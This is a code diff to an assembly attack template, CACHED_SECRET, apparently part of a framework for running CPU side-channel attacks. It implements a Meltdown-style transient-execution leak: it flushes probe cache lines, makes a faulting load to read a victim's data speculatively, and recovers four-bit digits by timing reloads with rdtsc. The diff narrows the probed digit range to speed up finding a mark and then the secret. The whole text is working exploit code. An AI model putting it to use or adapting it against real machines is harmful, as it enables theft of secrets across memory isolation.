@@ -15,16 +15,18 @@ CACHED_SECRET = Attack(
     mov rbx, {mark}
     hlt                         ; the victim runs on this core, and leaves something in its cache
 look:
-    xor r14, r14                ; first half of the block: the mark
-    xor rbp, rbp                ; bits of it so far
+    xor r14, r14                ; first half of the block: the mark, of which I know what its lowest digit must be
+    xor rbp, rbp
+    mov r9, rbx
+    and r9, 15
+    mov r10, r9
+    inc r10
     call leak
     cmp r11, 16
-    je next                     ; nothing of it is in the cache
-    mov rax, rbx
-    and rax, 15
-    cmp r11, rax
-    jne next
+    je next                     ; it is not, or nothing of the block is in the cache
     mov r14, 8                  ; the other half: the secret
+    xor r9, r9
+    mov r10, 16
     xor r12, r12
 digits:
     call leak
@@ -44,17 +46,20 @@ next:
     jb look
     jmp end
 
-leak:                           ; r11 = four bits, from bit rbp on, of the word r14 of frame r13; 16: unknown
+leak:                           ; r11 = the digit from bit rbp on of word r14 of frame r13, if in r9 to r10 - 1; else 16
     mov [r15 + 40], r13
     mov rsi, 0x5000
     invlpg [rsi]
-    mov rdi, {page_bytes}       ; 16 lines of page 1: the one that is fast afterwards is the digit
-    mov rdx, 16
+    mov r11, r9
+    mov rdi, r9                 ; a line of page 1 for each digit: the one that is fast afterwards is the right one
+    shl rdi, 6
+    add rdi, {page_bytes}
 flush:
     clflush [rdi]
     add rdi, {line_bytes}
-    dec rdx
-    jnz flush
+    inc r11
+    cmp r11, r10
+    jb flush
     mov rcx, rbp
     mov rdi, {page_bytes}
     mov rax, [rsi + r14]        ; faults; what follows leaves its trace only in the cache
@@ -63,20 +68,23 @@ flush:
     shl rax, 6
     mov rax, [rax + rdi]
 fault:
-    mov rdi, {page_bytes}
-    xor r11, r11
+    mov r11, r9
+    mov rdi, r9
+    shl rdi, 6
+    add rdi, {page_bytes}
 reload:
     rdtsc
     mov r8, rax
-    mov r9, [rdi]
+    mov rsi, [rdi]
     rdtsc
     sub rax, r8
     cmp rax, {slow_load}
     jb known
     add rdi, {line_bytes}
     inc r11
-    cmp r11, 16
+    cmp r11, r10
     jb reload
+    mov r11, 16
 known:
     ret
 end:
